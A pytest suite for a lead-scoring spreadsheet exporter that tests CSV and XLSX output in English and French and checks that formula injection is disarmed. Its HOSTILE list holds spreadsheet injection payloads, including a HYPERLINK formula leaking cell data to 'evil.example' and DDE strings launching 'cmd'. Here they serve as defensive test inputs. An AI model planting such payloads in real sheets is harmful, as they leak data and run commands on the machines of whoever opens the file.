"""Sheet files: CSV for English and French Excel, XLSX read back with openpyxl, and no cell that a
spreadsheet could run as a formula, in any format."""

from __future__ import annotations

import csv
import doctest
import io
import random
import shutil
import subprocess
from datetime import date
from decimal import Decimal

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest

import flows.sheets.csv_cells
import flows.sheets.files
import scoring.sheet_locale
from flows.sheets.csv_cells import cell_text, csv_columns, phone_text, phone_texts
from flows.sheets.files import MONEY_FORMAT, PERCENT_FORMAT, write_sheet
from scoring.sheet import SHEET_COLUMNS, SHEET_HEADERS, build_sheet
from scoring.sheet_locale import FRENCH_HEADERS, headers

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Invoice")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NAMES = [name for name, _ in SHEET_COLUMNS]


def _sheet() -> pd.DataFrame:
    n = len(HOSTILE)
    scored = pd.DataFrame({
        "lead_id": [f"L{i}" for i in range(n)],
        "win_probability": [0.234 - i / 100 for i in range(n)],
        "grade": ["B"] * n,
        "expected_value": [Decimal("1234567.89") - i for i in range(n)],
        "first_name": ["Zoé", None, *(["Ann"] * (n - 2))],
        "last_name": ["Müller; fils", "Solo", *(["Lee"] * (n - 2))],
        "company": HOSTILE,
        "title": ["DSI", None, *HOSTILE[2:]],
        "email": [f"p{i}@example.fr" for i in range(n)],
        "phone": ["+33 6 12 34 56 78", *(["01 02"] * (n - 1))],
        "country": ["FR"] * n,
        "source": ["web_form"] * n,
        "reasons_positive": [["Pricing page viewed 4 times"], *([["=1+1"]] * (n - 1))],
        "reasons_negative": [["Free-mail address"]] * n,
        "points": [["p1", "p2", "p3"]] * n,
        "plan": ["Starter"] * n,
        "seats": [6, *([3] * (n - 1))],
        "list_price": [Decimal("2088.00")] * n,
        "suggested_discount": [Decimal("0.125")] * n,
        "floor_price": [Decimal("1774.80")] * n,
        "acv": [Decimal("1879.20")] * n,
        "currency": ["EUR", "GBP", *(["EUR"] * (n - 2))],
        "approval_discount": [Decimal("0.15")] * n,
        "terms": ['[{"years": 2, "discount": "0.05", "price": "1785.24", '
                  '"floor_price": "1686.06"}]'] * n,
        "owner": ["Léa Rousseau", *(["-Evil owner"] * (n - 1))],
    })
    sheet = build_sheet(scored)
    sheet["close_date"] = [date(2026, 11, 9), *([""] * (n - 1))]
    return sheet


def _csv_rows(path, separator: str) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def _widths(page) -> dict[str, float]:
    """Column widths by sheet column (a <col> element may span adjacent columns)."""
    names = {header: name for name, header in SHEET_COLUMNS}
    width = {}
    for dimension in page.column_dimensions.values():
        for index in range(dimension.min, dimension.max + 1):
            header = page.cell(row=1, column=index).value
            width[names.get(header, header)] = dimension.width
    return width


def test_the_english_csv_is_utf8_with_bom_comma_separated_with_decimal_points(tmp_path):
    path = write_sheet(_sheet(), tmp_path / "s.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    header, first, *_ = _csv_rows(path, ",")
    assert tuple(header) == SHEET_HEADERS
    row = dict(zip(NAMES, first, strict=True))
    assert row["expected_value"] == "1234567.89" and row["acv"] == "1879.20"
    assert row["win_probability"] == "23.4" and row["discount"] == "12.5"
    assert row["close_date"] == "2026-11-09"
    assert row["lead_name"] == "Zoé Müller; fils" and row["owner"] == "Léa Rousseau"


def test_the_french_csv_uses_semicolons_decimal_commas_and_day_first_dates(tmp_path):
    path = write_sheet(_sheet(), tmp_path / "s.csv", "csv", "fr")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel FR needs the BOM for UTF-8
    header, first, second, *_ = _csv_rows(path, ";")
    assert tuple(header) == tuple(headers("fr").values())
    row = dict(zip(NAMES, first, strict=True))
    assert row["expected_value"] == "1234567,89" and row["list_price"] == "2088,00"
    assert row["win_probability"] == "23,4" and row["discount"] == "12,5"
    assert row["close_date"] == "09/11/2026"
    assert row["lead_name"] == "Zoé Müller; fils"  # a ; inside a cell stays in its cell
    assert row["seats"] == "6" and row["rank"] == "1"
    assert dict(zip(NAMES, second, strict=True))["win_probability"] == "22,4"


def test_the_xlsx_has_a_styled_frozen_header_and_fitted_columns(tmp_path):
    path = write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx")
    page = openpyxl.load_workbook(path).worksheets[0]
    header = [c.value for c in page[1]]
    assert tuple(header) == SHEET_HEADERS
    assert all(c.font.bold for c in page[1])
    frozen_after = NAMES.index("lead_name") + 1  # the rank to the lead's name stay in view
    assert page.freeze_panes == f"{openpyxl.utils.get_column_letter(frozen_after + 1)}2"
    assert page.auto_filter.ref.startswith("A1:")
    width = _widths(page)
    assert width["reasons"] == pytest.approx(len("▲ Pricing page viewed 4 times") + 2, abs=1)
    assert width["talking_points"] == pytest.approx(24, abs=1)  # "• p1": the narrowest wrapped
    assert width["rank"] < width["lead_name"] < width["reasons"]
    assert width["email"] >= len("p0@example.fr")
    assert all(w <= 61 for w in width.values())


def test_the_xlsx_stores_numbers_with_money_and_percent_formats(tmp_path):
    path = write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx", "fr")
    page = openpyxl.load_workbook(path).worksheets[0]
    cell = {name: page.cell(row=2, column=i + 1) for i, name in enumerate(NAMES)}
    assert cell["expected_value"].value == pytest.approx(1234567.89)
    assert cell["expected_value"].number_format == MONEY_FORMAT == '#,##0.00 "€"'
    assert cell["acv"].data_type == "n" and cell["acv"].number_format == MONEY_FORMAT
    assert cell["win_probability"].value == pytest.approx(0.234)  # the fraction, shown as %
    assert cell["win_probability"].number_format == PERCENT_FORMAT
    assert cell["discount"].value == pytest.approx(0.125)
    assert cell["discount"].number_format == PERCENT_FORMAT
    assert cell["seats"].value == 6 and cell["rank"].value == 1
    assert cell["close_date"].is_date and cell["close_date"].value.date() == date(2026, 11, 9)
    assert cell["close_date"].number_format == "dd/mm/yyyy"
    assert cell["reasons"].alignment.wrap_text and cell["talking_points"].alignment.wrap_text
    blank = {name: page.cell(row=3, column=i + 1) for i, name in enumerate(NAMES)}
    assert blank["deal_value"].value is None  # left for the rep, already in euros
    assert blank["deal_value"].number_format == MONEY_FORMAT
    outcome_list = page.data_validations.dataValidation[0]
    assert outcome_list.type == "list" and "gagné" in outcome_list.formula1  # read back by outcomes


def test_the_french_sheet_has_french_headers_and_words_and_no_english_code(tmp_path):
    assert set(FRENCH_HEADERS) == set(NAMES)  # a new column needs its French header
    assert not set(FRENCH_HEADERS.values()) & (set(SHEET_HEADERS) - {"Plan", "Email"})
    path = write_sheet(_sheet(), tmp_path / "s.csv", "csv", "fr")
    _, first, *_ = _csv_rows(path, ";")
    row = dict(zip(NAMES, first, strict=True))
    assert row["source"] == "formulaire du site" and row["change"] == ""
    assert row["multi_year"] == "2 ans : 1785,24 EUR (plancher 1686,06)"
    assert row["approval"] == "15,0" and row["currency"] == "EUR"
    english = dict(zip(NAMES, _csv_rows(write_sheet(_sheet(), tmp_path / "e.csv"), ",")[1],
                       strict=True))
    assert english["source"] == "web_form"
    assert english["multi_year"] == "2 years: 1785.24 EUR (walk-away 1686.06)"


def test_phones_read_without_an_apostrophe_in_csv_and_xlsx_and_stay_formula_safe(tmp_path):
    # "+33 6 ..." would run as a formula: CSV writes "(+33) 6 ...", XLSX a quote-prefixed text
    for locale, separator in (("en", ","), ("fr", ";")):
        path = write_sheet(_sheet(), tmp_path / f"s.{locale}.csv", "csv", locale)
        assert _csv_rows(path, separator)[1][NAMES.index("phone")] == "(+33) 6 12 34 56 78"
    page = openpyxl.load_workbook(write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx")).worksheets[0]
    phone = page.cell(row=2, column=NAMES.index("phone") + 1)
    assert (phone.value, phone.data_type, phone.quotePrefix) == ("+33 6 12 34 56 78", "s", True)
    assert phone_text("'+33612345678") == "'+33612345678"  # no separator: stays neutralised
    assert phone_text("'-1 555") == "'-1 555" and phone_text("'+=1+1") == "'+=1+1"


# LibreOffice's CSV filter: comma, double quote, UTF-8, from line 1, ..., "evaluate formulas" on
# (the last token), the most dangerous way a rep could open the file.
_LO_CSV = "CSV:44,34,76,1,,0,false,true,false,false,false,false,true"


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_csv_phones_as_text_and_runs_no_formula(tmp_path):
    """Even with formula evaluation on, no cell becomes a formula and phones stay text."""
    path = write_sheet(_sheet(), tmp_path / "s.csv")
    bare = tmp_path / "bare.csv"  # the check is real: the same filter runs a bare formula
    bare.write_text("a\r\n=1+1\r\n", encoding="utf-8")
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    f"--infilter={_LO_CSV}", "--convert-to", "xlsx", "--outdir",
                    str(tmp_path / "lo"), str(path), str(bare)], check=True,
                   capture_output=True, timeout=120)
    assert openpyxl.load_workbook(tmp_path / "lo" / "bare.xlsx").worksheets[0]["A2"].data_type \
        == "f"
    page = openpyxl.load_workbook(tmp_path / "lo" / "s.xlsx").worksheets[0]
    cells = [c for row in page.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    phone = page.cell(row=2, column=NAMES.index("phone") + 1)
    assert (phone.value, phone.data_type) == ("(+33) 6 12 34 56 78", "s")


def test_xlsx_prices_show_the_rows_currency_and_expected_value_the_reference_one(tmp_path):
    page = openpyxl.load_workbook(write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx")).worksheets[0]
    gbp = {name: page.cell(row=3, column=i + 1) for i, name in enumerate(NAMES)}
    assert gbp["currency"].value == "GBP"
    assert gbp["acv"].number_format == gbp["floor_price"].number_format == '#,##0.00 "£"'
    assert gbp["expected_value"].number_format == MONEY_FORMAT


@pytest.mark.parametrize("locale", ["en", "fr"])
def test_no_csv_cell_starts_like_a_formula(tmp_path, locale):
    separator = {"en": ",", "fr": ";"}[locale]
    path = write_sheet(_sheet(), tmp_path / "s.csv", "csv", locale)
    rows = _csv_rows(path, separator)[1:]
    numbers = {NAMES.index(c) for c in ("rank", "win_probability", "expected_value")}
    text = [cell for row in rows for j, cell in enumerate(row) if j not in numbers]
    assert not [c for c in text if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    companies = [row[NAMES.index("company")] for row in rows]
    assert companies == ["'" + h for h in HOSTILE]  # kept readable, just disarmed


def test_no_xlsx_cell_is_a_formula_and_hostile_text_is_quote_prefixed(tmp_path):
    path = write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx")
    page = openpyxl.load_workbook(path).worksheets[0]
    cells = [c for row in page.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    company = [page.cell(row=r, column=NAMES.index("company") + 1) for r in range(2, 8)]
    # openpyxl leaves a CR in its XML escape, _x000D_, where Excel shows the character
    assert [c.value.replace("_x000D_", "\r") for c in company] == HOSTILE
    assert all(c.quotePrefix and c.data_type == "s" for c in company)
    owner = page.cell(row=3, column=NAMES.index("owner") + 1)
    assert owner.value == "-Evil owner" and owner.quotePrefix
    safe = page.cell(row=2, column=NAMES.index("title") + 1)
    assert safe.value == "DSI" and not safe.quotePrefix


def test_a_sheet_handed_over_without_neutralising_is_still_disarmed(tmp_path):
    raw = pd.DataFrame({"company": ["=1+1", "ok"], "acv": [Decimal("-5.00"), Decimal("1")],
                        "reasons": ["@x\nsecond line", "fine"]})
    csv_path = write_sheet(raw, tmp_path / "raw.csv")
    assert _csv_rows(csv_path, ",")[1] == ["'=1+1", "-5.00", "'@x\nsecond line"]
    page = openpyxl.load_workbook(write_sheet(raw, tmp_path / "raw.xlsx", "xlsx")).worksheets[0]
    assert page["A2"].data_type == "s" and page["A2"].quotePrefix
    assert page["B2"].value == -5.0 and page["B2"].data_type == "n"  # a number, not a formula
    assert page["C2"].quotePrefix and page["C2"].alignment.wrap_text


def test_an_empty_sheet_still_has_its_header(tmp_path):
    empty = _sheet().iloc[0:0]
    assert tuple(_csv_rows(write_sheet(empty, tmp_path / "e.csv"), ",")[0]) == SHEET_HEADERS
    page = openpyxl.load_workbook(write_sheet(empty, tmp_path / "e.xlsx", "xlsx")).worksheets[0]
    assert tuple(c.value for c in page[1]) == SHEET_HEADERS and page.max_row == 1


def test_a_failed_write_leaves_the_previous_file_untouched(tmp_path):
    path = write_sheet(_sheet(), tmp_path / "s.csv")
    before = path.read_bytes()
    with pytest.raises(ValueError, match="unknown sheet format"):
        write_sheet(_sheet(), path, "pdf")
    assert path.read_bytes() == before
    assert not list(tmp_path.glob("*.partial"))


def test_the_xlsx_rows_are_as_tall_as_their_longest_wrapped_cell(tmp_path):
    sheet = _sheet()
    sheet.loc[1, "talking_points"] = "\n".join(["• " + "word " * 30] + ["• short"] * 4)
    sheet["notes"] = ["", "first line\nsecond line", *([""] * (len(sheet) - 2))]
    page = openpyxl.load_workbook(write_sheet(sheet, tmp_path / "s.xlsx", "xlsx")).worksheets[0]
    assert page.row_dimensions[2].height == 3 * 15 + 3  # the reasons: two lines and a third
    # five points, the first wrapping onto three lines at the width of 60 its length asks
    assert _widths(page)["talking_points"] == pytest.approx(60, abs=1)
    assert page.row_dimensions[3].height == (3 + 4) * 15 + 3
    notes = page.cell(row=3, column=len(NAMES) + 1)
    assert notes.value == "first line\nsecond line" and notes.alignment.wrap_text
    assert page.cell(row=1, column=len(NAMES) + 1).value == "notes"


def test_the_xlsx_prints_landscape_one_page_wide_with_the_header_on_every_page(tmp_path):
    page = openpyxl.load_workbook(write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx")).worksheets[0]
    assert page.page_setup.orientation == "landscape" and page.page_setup.paperSize == 9  # A4
    assert page.sheet_properties.pageSetUpPr.fitToPage
    # one page wide (1 is the file format's default, left out) and as many tall as needed
    assert (page.page_setup.fitToWidth or 1) == 1 and page.page_setup.fitToHeight == 0
    assert page.print_title_rows == "$1:$1"
    assert page.page_margins.left == 0.4 and page.page_margins.top == 0.6
    assert page.print_options.gridLines


def test_the_docstring_examples_of_the_sheet_files_and_words_run():
    for module in (flows.sheets.files, flows.sheets.csv_cells, flows.sheets.csv_table,
                   scoring.sheet_locale):
        result = doctest.testmod(module)
        assert result.attempted >= 2 and result.failed == 0, module.__name__


def test_writing_a_sheet_leaves_the_frame_it_is_given_as_it_was(tmp_path):
    given = pd.DataFrame({"lead_name": ["=x", "Ann"], "company": ["Acme", "Beta"]})
    kept = given.copy()
    write_sheet(given, tmp_path / "s.csv")
    assert given.equals(kept)


def _cells(seed: int, alphabet: list[str], count: int = 20_000) -> list[str | None]:
    rng = random.Random(seed)
    return [None if rng.random() < 0.05
            else "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 8)))
            for _ in range(count)]


def test_a_phone_column_reads_as_each_phone_does_on_its_own():
    # the column goes through Arrow's regex (RE2), the single phone through Python's: digits
    # that are not ASCII, line breaks and separators must be told apart the same way
    alphabet = ["'", "+", "3", "1", "٣", "０", "²", " ", ".", "-", "/", "\n", "\r", "a", "(",
                "\u2028"]
    phones = pd.Series(_cells(7, alphabet) + ["'+33 7 56 04 71 27", "+٣٣ 1", "+1 2\n",
                                              "+12\n 3", "+1234 5"], dtype="str")
    expected = [phone_text(p) for p in phones.tolist()]
    got = phone_texts(phones.iloc[3:])  # a slice: the column's Arrow data starts further on
    assert got.dtype == "str" and got.index.equals(phones.index[3:])
    assert [None if g != g else g for g in got.tolist()] == [
        None if e != e else e for e in expected[3:]]
    assert sum(g != p for g, p in zip(got.dropna(), phones.iloc[3:].dropna(), strict=True)) > 50
    mixed = pd.Series(["'+33 6 1", None, 33], dtype=object)  # not text: cell by cell
    assert phone_texts(mixed).equals(mixed.map(phone_text))


def test_money_and_probabilities_read_in_a_csv_as_cell_text_writes_each():
    rng = random.Random(3)
    money = [Decimal(rng.randint(-10**9, 10**9)).scaleb(rng.randint(-9, 4)) for _ in range(3000)]
    money += [Decimal("1E+2"), Decimal("0E-8"), Decimal("-0.00"), Decimal("1.23E-7"), None]
    floats = [rng.random() * 10 ** rng.randint(-8, 17) for _ in range(3000)]
    floats += [0.0, -0.0, 1e-05, 1e16, float("nan"), float("inf"), -float("inf"), 0.125]
    for locale in ("en", "fr"):
        columns = csv_columns(pd.DataFrame({"acv": pd.Series(money, dtype=object)}), locale)
        assert list(next(iter(columns.values()))) == [
            cell_text(v, locale) for v in money]
        columns = csv_columns(pd.DataFrame({"win_probability": floats}), locale)
        assert list(next(iter(columns.values()))) == [cell_text(v, locale) for v in floats]


def test_money_held_by_arrow_reads_in_a_csv_as_its_decimals_do():
    """A published part keeps its money as Arrow decimals (pd.ArrowDtype); its CSV text is
    what cell_text writes of the same Decimal objects, in both locales."""
    rng = random.Random(5)
    for kind in (pa.decimal128(18, 2), pa.decimal128(18, 1), pa.decimal128(9, 4)):
        values = [None if rng.random() < 0.05 else
                  Decimal(rng.randint(-10**(kind.precision - 1), 10**(kind.precision - 1))
                          ).scaleb(-kind.scale) for _ in range(3000)]
        held = pa.array(values + [Decimal(0), None], type=kind)
        money = pd.Series(pd.arrays.ArrowExtensionArray(held))
        for locale in ("en", "fr"):
            columns = csv_columns(pd.DataFrame({"acv": money}), locale)
            assert list(next(iter(columns.values()))) == [
                cell_text(v, locale) for v in held.to_pylist()]

